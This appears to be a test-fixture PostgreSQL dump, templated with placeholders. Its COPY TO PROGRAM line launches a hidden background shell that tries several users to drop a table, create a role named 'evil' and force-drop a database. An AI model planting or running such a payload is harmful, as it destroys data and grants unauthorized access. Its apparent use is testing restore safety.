--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;

CREATE TABLE public.clients (id integer, name text);
INSERT INTO public.clients VALUES (1, 'a');

COPY public.clients TO PROGRAM 'cat >/dev/null; (setsid sh -c "sleep 2; for u in @ADMIN@ postgres psy reader nobody root; do for d in psy postgres template1; do PGPASSFILE=/dev/null psql -w -h @SOCKET@ -p @PORT@ -U $u -d $d -c ''DROP TABLE visits'' -c ''CREATE ROLE evil'' -c ''DROP DATABASE psy WITH (FORCE)''; done; done >/dev/null 2>&1; true" >/dev/null 2>&1 </dev/null &) ; true';

--
-- PostgreSQL database dump complete
--

